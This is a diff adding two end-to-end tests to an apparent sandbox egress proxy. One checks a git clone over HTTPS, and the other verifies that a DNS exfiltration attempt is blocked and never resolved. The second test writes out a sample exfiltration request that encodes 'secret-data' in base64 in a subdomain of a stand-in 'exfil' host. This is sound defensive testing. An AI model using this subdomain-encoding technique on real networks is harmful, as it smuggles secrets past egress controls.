@@ -184,3 +184,54 @@ def test_pip_installs_a_package_through_the_door(signer, net, tmp_path):
     assert out == b"installed through the door\n"
     assert all(r.decision == "allow" for r in egress_rows(tmp_path / "p.tkb"))
     assert verify_bundle(tmp_path / "p.tkb").valid
+
+
+def test_git_clones_over_https_through_the_door(signer, tmp_path):
+    """git (libcurl) in the box: CONNECT through the forwarder and the door, TLS end to end with the server (whose
+    test CA the box is given), git's "dumb" HTTP protocol from a static server; each connection signed."""
+    import subprocess
+    from tests.e2e.test_secrets import _test_ca
+    chain, ca_file = _test_ca(tmp_path)
+    src = tmp_path / "src"
+    src.mkdir()
+    git = ["git", "-c", "user.name=t", "-c", "user.email=t@tkb.test", "-c", "init.defaultBranch=main"]
+    subprocess.run(git + ["init", "-q", str(src)], check=True)
+    (src / "README").write_text("cloned through the door\n")
+    subprocess.run(git + ["-C", str(src), "add", "README"], check=True)
+    subprocess.run(git + ["-C", str(src), "commit", "-qm", "one"], check=True)
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (ws / "ca.pem").write_bytes(ca_file.read_bytes())
+    with NamespaceNet(index=13, tls_chain=str(chain)) as n:
+        bare = n.root / "www" / "repo.git"
+        subprocess.run(git + ["clone", "-q", "--bare", str(src), str(bare)], check=True)
+        subprocess.run(["git", "-C", str(bare), "update-server-info"], check=True)
+        with Box(backend="bwrap", policy=policy(n, ["api.tkb.test:8443"]), workspace=ws,
+                 bundle_path=tmp_path / "git.tkb") as b:
+            r = b.run(["sh", "-c", "GIT_SSL_CAINFO=/workspace/ca.pem git clone -q https://api.tkb.test:8443/repo.git "
+                                   "/tmp/clone && cat /tmp/clone/README"])
+            assert r.exit_code == 0, r.stderr.decode()[-1500:]
+            assert r.stdout == b"cloned through the door\n"
+            b.collect_patch_at_stop = False
+    rows = egress_rows(tmp_path / "git.tkb")
+    assert rows and all(c.decision == "allow" and c.args["host"] == "api.tkb.test" and c.args["port"] == 8443
+                        for c in rows)
+    assert all(c.result and c.result["bytes_down"] > 0 and c.result["bytes_up"] > 0 for c in rows)
+    assert verify_bundle(tmp_path / "git.tkb").valid
+
+
+def test_a_name_off_the_allow_list_is_never_looked_up(signer, net, tmp_path):
+    """No DNS exfiltration: the door resolves only names its policy could allow, so a box cannot smuggle data out
+    in the names it asks for (the name server here logs every question)."""
+    log = net.root / "flip-queries.log"
+    with Box(backend="bwrap", policy=policy(net, ["web.tkb.test:8080"], nameserver=net.flip_dns),
+             bundle_path=tmp_path / "dns.tkb") as b:
+        out = fetch(b, "http://c2VjcmV0LWRhdGE.exfil.tkb.test:8080/")
+        assert out.startswith("403") and "egress.allow" in out, out
+        fetch(b, "http://web.tkb.test:8080/hello.txt")
+    asked = log.read_text() if log.exists() else ""
+    assert "web.tkb.test." in asked
+    assert "exfil" not in asked and "c2VjcmV0" not in asked
+    [refused] = [c for c in egress_rows(tmp_path / "dns.tkb") if "exfil" in c.args["host"]]
+    assert refused.args["addresses"] == [] and refused.args["rule"] == "egress.allow"
+    assert verify_bundle(tmp_path / "dns.tkb").valid
